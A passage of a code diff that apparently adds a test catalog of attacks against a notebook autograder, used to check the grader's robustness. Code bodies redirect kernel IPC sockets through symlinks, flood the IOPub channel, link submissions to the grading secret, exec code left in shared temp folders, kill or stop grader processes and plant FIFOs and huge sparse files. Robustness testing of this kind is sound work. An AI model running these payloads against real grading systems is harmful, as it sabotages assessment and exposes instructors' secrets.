+                ok.append(target)
+            except Exception:
+                pass
+if ok:
+    _won(ok)
+'''))
+
+    A.append(Attack("ipc_symlink_redirect", status=("timeout", "crashed"),
+                    why="its kernel's ipc socket folder swapped for a symlink to a host folder, then its "
+                    "sockets closed so the trusted side reconnects (through /proc/<pid>/root)", body=r'''
+import gc
+try:
+    from ipykernel.kernelapp import IPKernelApp
+    prefix = json.load(open(IPKernelApp.instance().abs_connection_file))["ip"]
+except Exception:
+    prefix = "/tmp/.kpca-ipc/k"
+d = os.path.dirname(prefix)
+if _isolated_pid_ns() or d.startswith(_M["world"]):  # never another process's folder
+    try:
+        os.rename(d, d + ".old")
+        os.symlink(_M["sockdir"], d)
+    except OSError:
+        pass
+try:
+    import zmq
+    for obj in gc.get_objects():
+        if isinstance(obj, zmq.Socket) and not obj.closed:
+            try:
+                obj.close(linger=0)
+            except Exception:
+                pass
+except Exception:
+    pass
+time.sleep(120)
+'''))
+
+    A.append(Attack("huge_iopub_frame", status=("graded", "crashed"),
+                    why="one 1.2 GB binary frame sent straight on its IOPub socket (the trusted side "
+                    "must not buffer it)", body=r'''
+try:
+    k = get_ipython().kernel
+    big = bytes(1_200_000_000)
+    k.session.send(k.iopub_socket, "display_data", {"data": {"text/plain": "x"}, "metadata": {}},
+                   parent=k.get_parent("shell"), buffers=[memoryview(big)])
+    del big
+except Exception as exc:
+    print("failed", exc)
+'''))
+
+    A.append(Attack("symlink_to_secret", status=("invalid",), per=dict(ZERO), raw=b"symlink-secret",
+                    why="the submitted file is a symlink to the instructor's grading secret", body=""))
+
+    A.append(Attack("deep_json", status=("invalid",), per=dict(ZERO), raw=b"deep",
+                    why="a notebook file nested 100 000 deep (RecursionError)", body=""))
+    A.append(Attack("cell_id_object", per=dict(FULL), mutate="object_id",
+                    why="an answer cell whose id is a JSON object (found by its metadata slot)", body=""))
+    A.append(Attack("csv_injection", per=dict(FULL), mutate="full",
+                    why="a student folder named like a spreadsheet formula", body=""))
+
+    A.append(Attack("channel_reader", why="reads what an earlier submission left in shared places", body=r'''
+for d in ["/tmp", "/dev/shm", "/var/tmp", os.environ.get("TMPDIR", ""), os.path.expanduser("~"),
+          _grader_info()["env"].get("TMPDIR", "")] + _roots():
+    src = _rd(os.path.join(d, MARKER + "-channel"), text=True) if d else ""
+    if src:
+        exec(src, globals())
+        break
+'''))
+    return A
+
+
+# Attacks on the grader process itself: their own small batch, since on a grader
+# without a sandbox they take the whole batch down (or hang it).
+def killer_catalog(cfg: dict) -> list[Attack]:
+    A: list[Attack] = []
+    A.append(Attack("sigkill_grader", why="walk /proc to the grader and SIGKILL it", body=r'''
+for pid in _grader_info()["pids"]:
+    os.kill(pid, signal.SIGKILL)
+'''))
+    A.append(Attack("sigstop_grader", why="walk /proc to the grader and SIGSTOP it", body=r'''
+for pid in _grader_info()["pids"]:
+    os.kill(pid, signal.SIGSTOP)
+'''))
+    A.append(Attack("kill_everything", status=("crashed", "graded"),
+                    why="setsid, then kill(-1, SIGKILL): everything it can see", body=r'''
+if _isolated_pid_ns():
+    os.setsid()
+    os.kill(-1, signal.SIGKILL)
+else:  # not isolated: kill(-1) would hit the whole machine; the grader stands for it
+    for pid in _grader_info()["pids"]:
+        os.kill(pid, signal.SIGKILL)
+time.sleep(2)
+'''))
+    A.append(Attack("fifo_submission", status=("invalid",), per=dict(ZERO), raw=b"fifo",
+                    why="the submitted file is a named pipe (the grader must not block on it)", body=""))
+    A.append(Attack("special_exports", status=("graded", "crashed"),
+                    why="export function replaced; its export files (where it can find them) replaced by a "
+                    "FIFO, a 3 GB sparse file and a symlink to the secret: the grader must not hang, "
+                    "read 3 GB or follow the link (q1_phi_general was exported before: it keeps its points)",
+                    body=r'''
+cells = [c.cell_contents for c in (getattr(_kpca_export, "__closure__", None) or ())]
+outdir = next((str(c) for c in cells if hasattr(c, "joinpath")), "exports")
+_kpca_export = lambda question: None
+home = _grader_info()["env"].get("HOME", _M["home"])
+try:
+    p = os.path.join(outdir, "q1_phi_general.json")
+    if os.path.lexists(p):
+        os.unlink(p)
+    with open(p, "wb") as fh:
+        fh.truncate(3 << 30)
+except Exception:
+    pass
+try:
+    os.mkfifo(os.path.join(outdir, "q2_feature_count.json"))
+except Exception:
+    pass
+try:
+    os.symlink(os.path.join(home, ".config", "kpca-course", "grading-secret"), os.path.join(outdir, "q1_extra.json"))
+except Exception:
+    pass
+'''))
+    return A
